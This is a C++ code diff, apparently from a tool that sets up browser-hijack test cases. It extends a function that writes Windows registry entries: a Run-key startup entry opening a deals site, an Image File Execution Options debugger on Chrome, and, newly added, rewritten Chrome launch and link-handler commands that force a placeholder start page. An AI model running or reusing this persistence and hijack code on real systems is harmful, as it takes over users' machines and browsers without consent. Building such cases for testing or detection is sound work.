@@ -41,10 +41,17 @@ bool SetDefault(const std::string& path, const char* text) {
     return SetText(HKEY_LOCAL_MACHINE, path, "", text);
 }
 
-// A startup entry that opens a shop at every logon, and a debugger that runs another program
-// whenever Chrome starts.
+// A startup entry that opens a shop at every logon, a debugger that runs another program
+// whenever Chrome starts, and a start page added to Chrome's web-link handler and to its
+// launch command.
 bool MakeLaunchHijacks() {
-    return SetText(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+    const std::string chrome = std::string("\"") + kChrome + "\"";
+    return SetText(HKEY_CURRENT_USER, "Software\\Classes\\ChromeHTML\\shell\\open\\command", "",
+                   (chrome + " --single-argument %1 http://start.example-hijack.net/").c_str()) &&
+           SetText(HKEY_CURRENT_USER,
+                   "Software\\Clients\\StartMenuInternet\\Google Chrome\\shell\\open\\command", "",
+                   (chrome + " http://start.example-hijack.net/").c_str()) &&
+           SetText(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                    "DailyDeals", "cmd /c start http://deals.example-hijack.net/") &&
            SetText(HKEY_LOCAL_MACHINE,
                    "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
